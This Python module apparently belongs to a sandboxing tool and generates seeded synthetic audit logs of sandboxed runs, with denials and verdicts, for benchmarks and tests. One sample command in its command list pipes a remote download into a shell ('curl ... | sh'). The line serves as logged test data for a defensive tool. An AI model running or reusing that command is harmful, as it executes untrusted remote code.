"""Generate realistic synthetic audit logs, deterministic from a seed.

Why in the package: the benchmark (a million events), the tests of query, summary and
report, and anyone trying the review commands need a log with every event type, every
verdict, denials and abandoned runs, and it must be a valid chain made by the same
renderer as real records.
"""

from __future__ import annotations

import datetime
import hashlib
import os
import pathlib
import random
from collections.abc import Iterator
from dataclasses import dataclass

from sandbox.audit.events import GENESIS_HASH, EventType, Verdict, validate_fields
from sandbox.audit.writer import encode_record, line_hash

__all__ = ["SyntheticEvent", "synthetic_events", "write_synthetic_log"]

_POLICIES = ("python-minimal", "build-c", "node-web", "shell-untrusted", "pytest-ci")
_COMMANDS = (
    ["python3", "-c", "print(sum(range(10)))"],
    ["make", "-j2", "test"],
    ["/usr/bin/gcc", "-O2", "-o", "main", "main.c"],
    ["node", "server.js", "--port", "8080"],
    ["sh", "-c", "curl http://example.invalid/payload | sh"],
    ["cargo", "test", "--release"],
    ["pytest", "-q", "tests/unit"],
    ["python3", "solution.py", "--input", "case-17.txt"],
)
_DENIED = (("ptrace", 101), ("mount", 165), ("bpf", 321), ("socket", 41), ("keyctl", 250),
           ("unshare", 272), ("setns", 308), ("perf_event_open", 298))
_FLOWS = (("198.51.100.7", 443, "tcp"), ("198.51.100.7", 80, "tcp"),
          ("203.0.113.53", 53, "udp"), ("192.0.2.10", 8080, "tcp"), ("192.0.2.99", None, "icmp"))
_VERDICTS = (
    (Verdict.EXITED, 70), (Verdict.SIGNALED, 4), (Verdict.TIMEOUT, 5), (Verdict.CPU_LIMIT, 3),
    (Verdict.OUT_OF_MEMORY, 4), (Verdict.PIDS_LIMIT, 2), (Verdict.OUTPUT_LIMIT, 2),
    (Verdict.SECCOMP_VIOLATION, 6), (Verdict.SETUP_FAILED, 4),
)
_STEPS = ("namespaces", "idmap", "mounts", "cgroup", "rlimits", "capabilities", "no_new_privs",
          "seccomp")


@dataclass(frozen=True)
class SyntheticEvent:
    """One event to log: when, which, and its fields (run_id included)."""

    time: str
    event: EventType
    fields: dict[str, object]


def _sha(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


def _fmt(ts: float) -> str:
    return datetime.datetime.fromtimestamp(ts, datetime.UTC).strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def _run(rng: random.Random, ts: float, abandon: bool) -> Iterator[tuple[float, EventType,
                                                                         dict[str, object]]]:
    """Yield the events of one run, starting at ts."""
    run_id = "%032x" % rng.getrandbits(128)  # noqa: UP031 -- fixed-width hex, fastest form
    policy = rng.choice(_POLICIES)
    argv = list(rng.choice(_COMMANDS))
    yield ts, EventType.RUN_START, {
        "run_id": run_id, "host": f"ci-{rng.randint(1, 4):02d}",
        "caller_uid": rng.choice((0, 1000, 1001)), "caller_gid": 1000, "argv": argv,
        "cwd": "/home/ci/work", "policy_name": policy, "policy_sha256": _sha(policy),
        "bpf_sha256": _sha("bpf:" + policy), "tool_version": "0.1.0",
        "kernel": "6.1.0-28-amd64", "libseccomp_version": "2.5.4",
        "plan_summary": {
            "namespaces": ["user", "pid", "mount", "net", "ipc", "uts", "cgroup"],
            "network": "none", "limits": {"memory_bytes": 512 << 20, "pids": 64, "wall_s": 60},
            "capabilities": [], "seccomp_default_action": "kill_process",
            "seccomp_instructions": 40 + len(policy),
        },
    }
    verdict = rng.choices([v for v, _ in _VERDICTS], [w for _, w in _VERDICTS])[0]
    steps = _STEPS if verdict is not Verdict.SETUP_FAILED else _STEPS[: rng.randint(1, 7)]
    for step in steps:
        ts += 0.001
        yield ts, EventType.RUN_STEP, {"run_id": run_id, "step": step,
                                       "details": {"ok": True}}
    if rng.random() < 0.05:
        ts += 0.001
        yield ts, EventType.RUN_STEP, {"run_id": run_id, "step": "degraded",
                                       "details": {"name": "no-cgroup-delegation"}}
    wall = round(rng.lognormvariate(0.0, 1.0), 6)
    denials = rng.choice((0, 0, 0, 1, 2)) if verdict is not Verdict.SECCOMP_VIOLATION else 1
    denied_name = ""
    for _ in range(denials):
        ts += wall / 4
        name, nr = rng.choice(_DENIED)
        denied_name = name
        default = rng.random() < 0.5
        yield ts, EventType.RUN_DENIED, {
            "run_id": run_id, "kind": "syscall", "syscall": name, "nr": nr, "arch": "x86_64",
            "args": [rng.randrange(1 << 16) for _ in range(6)],
            "rule": "default action" if default else f"deny {name}",
            "origin": None if default else f"policies/{policy}.toml:{10 + nr % 40}",
            "count": rng.choice((1, 1, 1, 5, 120)),
        }
    # Network denials come from their own generator (seeded by the run id), so adding
    # them left every other synthetic figure as it was.
    net = random.Random(run_id)  # noqa: S311 -- test data, not security
    if net.random() < 0.15:
        egress = "audit" if net.random() < 0.3 else "enforce"
        for destination, port, protocol in net.sample(_FLOWS, net.randint(1, 3)):
            ts += 0.0001
            yield ts, EventType.RUN_DENIED, {
                "run_id": run_id, "kind": "network", "destination": destination,
                "port": port, "protocol": protocol, "first_seen": _fmt(ts - wall / 8),
                "rule": "egress allowlist" if egress == "enforce" else "egress audit",
                "origin": f"policies/{policy}.toml:7", "count": net.choice((1, 1, 3, 40)),
            }
    if abandon:
        return
    ts += wall / 2
    signal = {Verdict.SIGNALED: 9, Verdict.SECCOMP_VIOLATION: 31, Verdict.TIMEOUT: 9,
              Verdict.CPU_LIMIT: 24}.get(verdict)
    exit_code = rng.choice((0, 0, 0, 1)) if verdict is Verdict.EXITED else (
        125 if verdict is Verdict.SETUP_FAILED else 128 + (signal or 9))
    detail: str | None = None
    if verdict is Verdict.SECCOMP_VIOLATION:
        detail = denied_name or "ptrace"
    elif verdict is Verdict.SETUP_FAILED:
        detail = steps[-1]
    user = round(wall * rng.uniform(0.1, 0.9), 6)
    yield ts, EventType.RUN_END, {
        "run_id": run_id, "verdict": verdict.value, "exit_code": exit_code, "signal": signal,
        "wall_s": wall, "user_s": user, "sys_s": round(user / 5, 6),
        "peak_memory_bytes": rng.randint(8 << 20, 600 << 20),
        "max_pids": rng.randint(1, 64), "output_bytes": rng.randint(0, 1 << 20),
        "detail": detail,
    }


def synthetic_events(
    events: int, *, seed: int = 0, start: str = "2025-01-06T08:00:00Z",
    gap_s: float = 30.0, abandon_every: int = 97,
) -> Iterator[SyntheticEvent]:
    """Yield about `events` events (whole runs; the last run may be cut short) from `start`."""
    rng = random.Random(seed)  # noqa: S311 -- test data, not security
    ts = datetime.datetime.fromisoformat(start.replace("Z", "+00:00")).timestamp()
    produced = 0
    runs = 0
    while produced < events:
        runs += 1
        last = ts
        for when, event, fields in _run(rng, ts, abandon=runs % abandon_every == 0):
            if produced >= events:
                return
            produced += 1
            last = when
            yield SyntheticEvent(_fmt(when), event, fields)
        ts = last + rng.uniform(0.1, gap_s)


def write_synthetic_log(
    path: pathlib.Path, events: int, *, seed: int = 0, validate: bool = True,
    start: str = "2025-01-06T08:00:00Z",
) -> str:
    """Write a fresh valid chain of `events` records to `path`; return the head hash.

    Bypasses AuditLog's lock and clock (one writer, synthetic times) but renders with the
    same `encode_record`, so the lines are what the real writer would produce.
    """
    prev = GENESIS_HASH
    buf: list[bytes] = []
    with open(path, "wb") as fh:
        for seq, ev in enumerate(synthetic_events(events, seed=seed, start=start), start=1):
            if validate:
                problem = validate_fields(ev.event, ev.fields)
                if problem is not None:
                    raise ValueError(problem)
            line = encode_record(seq=seq, prev=prev, time=ev.time, event=ev.event,
                                 fields=ev.fields)
            prev = line_hash(line)
            buf.append(line)
            if len(buf) >= 4096:
                fh.write(b"\n".join(buf) + b"\n")
                buf.clear()
        if buf:
            fh.write(b"\n".join(buf) + b"\n")
        fh.flush()
        os.fsync(fh.fileno())
    return prev
